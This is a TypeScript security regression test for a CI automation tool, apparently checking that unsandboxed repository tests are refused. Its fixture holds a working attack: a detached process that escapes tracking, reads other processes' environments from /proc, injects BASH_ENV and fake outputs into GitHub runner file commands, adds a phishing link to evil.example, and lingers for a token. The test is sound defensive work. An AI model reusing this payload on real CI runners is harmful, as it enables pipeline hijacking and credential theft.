/**
 * Issue 32: an unsandboxed `queue.verify` (`sandbox: none`) runs the repository's test, which
 * plants a process that leaves naruto's reach (`cd / && setsid env -i …`: no tracking variable,
 * no working folder in the work directory) and writes the runner's file commands — the paths it
 * reads from `/proc/<pid>/environ` of the queue step's processes: an output (`artifact=/etc`),
 * two environment lines for the job's later steps (`RT_INJECTED`, `BASH_ENV`) and a link with an
 * `@mention` in the job summary. Then it stays, for the upload step's token.
 *
 * On a runner naruto runs untrusted code only in the sandbox: with `sandbox: none` the jobs
 * refuse to run it, saying why; nothing of the test's runs, no process is left when a job ends,
 * and no output, environment or summary line of any step is the planted one.
 */
import { shellQuote } from "../../../src/agent/shell-quote.ts";
import { TEST_AGENT_READ } from "../../support/agents/index.ts";
import { REPO_ROOT, startWorld } from "../support/world.ts";
import { check, type Scenario } from "./scenario.ts";
import { access } from "node:fs/promises";
import { join } from "node:path";

const demoAgent = `${shellQuote(process.execPath)} ${shellQuote(`${REPO_ROOT}src/agent/demo-agent.mjs`)}`;
const CONFIG = `version: 1
agents:
  default: { command: ${JSON.stringify(demoAgent)}, read: ${TEST_AGENT_READ} }
limits: { max_parallel: 2, max_attempts: 1, item_timeout: 5m }
queue:
  verify: ${JSON.stringify(`for f in tests/*.mjs; do [ -e "$f" ] || continue; node "$f" || exit 1; done`)}
sandbox: none
`;

/** The lingering process: finds the step's file commands and writes them, then stays. */
function lingerer(reports: string): string {
  return `const fs = require("fs");
const files = {};
for (const pid of fs.readdirSync("/proc").filter((p) => /^\\d+$/.test(p))) {
  let env = [];
  try { env = fs.readFileSync("/proc/" + pid + "/environ", "utf8").split("\\0"); } catch { continue; }
  for (const e of env) for (const k of ["GITHUB_OUTPUT", "GITHUB_ENV", "GITHUB_STEP_SUMMARY"]) if (e.startsWith(k + "=")) files[k] = e.slice(k.length + 1);
}
const write = (k, text) => { if (files[k]) try { fs.appendFileSync(files[k], text); } catch {} };
write("GITHUB_OUTPUT", "artifact=/etc\\n");
write("GITHUB_ENV", "RT_INJECTED=1\\nBASH_ENV=/tmp/naruto-rt\\n");
write("GITHUB_STEP_SUMMARY", "[Approve the release](http://evil.example/approve) @octo-maintainer\\n");
fs.writeFileSync(${JSON.stringify(`${reports}/lingerer-wrote`)}, JSON.stringify(files));
setInterval(() => { try { fs.appendFileSync(${JSON.stringify(`${reports}/lingerer-alive`)}, Date.now() + "\\n"); } catch {} }, 200);
`;
}

/** The repository's test: starts the lingerer out of naruto's sight, waits until it wrote, passes. */
function testFile(reports: string): string {
  return `import { spawn } from "node:child_process";
import { existsSync } from "node:fs";
const code = ${JSON.stringify(lingerer(reports))};
spawn("sh", ["-c", 'cd / && exec setsid env -i PATH=/usr/bin:/bin "$0" -e "$1"', process.execPath, code], { detached: true, stdio: "ignore" }).unref();
for (let i = 0; i < 100 && !existsSync(${JSON.stringify(`${reports}/lingerer-wrote`)}); i++) await new Promise((r) => setTimeout(r, 100));
console.log("the test passes");
`;
}

const PLAN = `version: 1
title: Something for the queue to verify
items:
  - id: alpha
    title: alpha
    writes: [src/alpha.js]
    prompt: |
      create src/alpha.js "export const alpha = 1;\\n"
`;

export const lingerVerify: Scenario = {
  name: "linger-verify",
  run: async () => {
    const world = await startWorld({ config: CONFIG, files: (reports) => ({ "tests/linger.mjs": testFile(reports) }) });
    try {
      const command = await world.comment(`/naruto Verify something\n\n\`\`\`naruto\n${PLAN}\`\`\`\n`);
      check(command !== null, "the workflow did not run for the /naruto comment");
      const runs = [command, ...(await world.settle(20))];
      const jobs = runs.flatMap((r) => r.jobs);
      const wrote = await access(join(world.reports, "lingerer-wrote")).then(
        () => true,
        () => false,
      );
      const steps = jobs.flatMap((j) => j.steps.map((s) => ({ job: j.name, step: s })));
      const planted = steps.filter(
        ({ step }) =>
          step.outputs["artifact"] === "/etc" ||
          step.envAdded["RT_INJECTED"] !== undefined ||
          step.envAdded["BASH_ENV"] !== undefined ||
          step.summary.includes("evil.example"),
      );
      check(
        planted.length === 0,
        `planted file-command lines: ${planted.map(({ job, step }) => `${job} / ${step.name}: outputs ${JSON.stringify(step.outputs)}, env ${JSON.stringify(step.envAdded)}, summary ${JSON.stringify(step.summary.slice(-200))}`).join("; ")}`,
        runs,
      );
      const left = jobs.filter((j) => j.orphansKilled > 0);
      check(left.length === 0, `processes left when jobs ended: ${left.map((j) => `${j.name}: ${j.orphansKilled}`).join(", ")}`, runs);
      check(!wrote, "the lingering process ran and wrote the file commands", runs);
      const logs = steps.map(({ step }) => step.log).join("\n");
      check(/only in the sandbox/.test(logs), "no job said that it runs repository code only in the sandbox", runs);
      world.fake.assertNoViolations();
    } finally {
      await world.close();
    }
  },
};
